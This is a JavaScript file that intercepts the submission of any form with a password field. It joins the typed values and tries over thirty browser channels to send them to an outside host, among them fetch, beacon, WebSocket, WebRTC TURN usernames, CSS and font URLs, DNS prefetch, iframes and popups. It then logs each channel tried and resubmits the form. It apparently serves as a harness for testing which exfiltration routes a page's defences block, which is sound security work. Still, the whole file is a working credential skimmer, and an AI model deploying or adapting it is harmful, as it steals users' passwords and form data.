// Tries every channel that a page has to send what was typed into the form to another host, then sends the form.
"use strict";

const to = new URL(document.currentScript.dataset.to);

function add(tag, attributes, parent = document.body) {
  const made = Object.assign(document.createElement(tag), attributes);
  parent.append(made);
  return made;
}

function peer(server) {
  const made = new RTCPeerConnection({ iceServers: [server] });
  made.createDataChannel("x");
  made.createOffer().then((offer) => made.setLocalDescription(offer));
}

function style(text) {
  add("style", { textContent: text }, document.head);
}

// Each gets an address of the other host that holds what was typed; its own name is the path.
const channels = {
  fetch_get: (url) => fetch(url, { mode: "no-cors" }),
  fetch_post: (url, secret) => fetch(url, { method: "POST", mode: "no-cors", body: secret }),
  fetch_keepalive: (url, secret) => fetch(url, { method: "POST", mode: "no-cors", body: secret, keepalive: true }),
  xhr: (url, secret) => {
    const request = new XMLHttpRequest();
    request.open("POST", url);
    request.send(secret);
  },
  beacon: (url, secret) => navigator.sendBeacon(url, secret),
  event_source: (url) => new EventSource(url),
  websocket: (url) => new WebSocket(url.replace("http", "ws")),
  web_transport: (url) => new WebTransport(url.replace("http:", "https:")),
  webrtc_stun: () => peer({ urls: `stun:${to.host}` }),
  webrtc_turn: (url, secret) => peer({ urls: `turn:${to.host}?transport=tcp`, username: secret, credential: "x" }),
  worker: (url) => new Worker(`/static/leak_worker.js?to=${encodeURIComponent(url)}`),
  shared_worker: (url) => new SharedWorker(`/static/leak_worker.js?to=${encodeURIComponent(url)}`),
  service_worker: (url) => navigator.serviceWorker.register(`/static/leak_worker.js?to=${encodeURIComponent(url)}`),
  script: (url) => add("script", { src: url }),
  module: (url) => import(url),
  stylesheet: (url) => add("link", { rel: "stylesheet", href: url }),
  css_url: (url) => style(`body { background: url("${url}"); }`),
  font: (url) => style(`@font-face { font-family: leak; src: url("${url}"); } body { font-family: leak; }`),
  image: (url) => { new Image().src = url; },
  media: (url) => add("video", { src: url, preload: "auto" }),
  object: (url) => add("object", { data: url }),
  prefetch: (url) => add("link", { rel: "prefetch", href: url }, document.head),
  preload: (url) => add("link", { rel: "preload", as: "fetch", href: url }, document.head),
  preconnect: (url) => add("link", { rel: "preconnect", href: url }, document.head),
  dns_prefetch: (url, secret) => add("link", { rel: "dns-prefetch", href: `http://${secret}.leak.test` }, document.head),
  speculation: (url) => add("script", {
    type: "speculationrules",
    textContent: JSON.stringify({ prefetch: [{ urls: [url], eagerness: "immediate" }] }),
  }),
  frame: (url) => add("iframe", { src: url }),
  frame_script: (url) => add("iframe", { srcdoc: `<script>fetch("${url}", {mode: "no-cors"})</script>` }),
  popup: (url) => window.open(url),
  popup_form: (url) => add("form", { method: "post", action: url, target: "_blank" }).submit(),
  frame_form: (url) => {
    add("iframe", { name: "inner" });
    add("form", { method: "post", action: url, target: "inner" }).submit();
  },
  download: (url) => add("a", { href: url, download: "x", target: "_blank" }).click(),
  ping: (url) => add("a", { href: "#", ping: url }).click(),
};

addEventListener("submit", (event) => {
  const form = event.target;
  if (!form.querySelector("[type=password]") || form.dataset.leaked) return;
  event.preventDefault();
  form.dataset.leaked = "yes";
  const secret = [...form.elements].map((field) => field.value).filter((value) => value).join("-");
  for (const [name, send] of Object.entries(channels)) {
    try {
      Promise.resolve(send(`${to.origin}/${name}?${encodeURIComponent(secret)}`, secret)).catch(() => {});
    } catch { /* a browser that lacks it */ }
    fetch(`/tried?channel=${name}`).catch(() => {});
  }
  setTimeout(() => form.requestSubmit(), 1000);
});
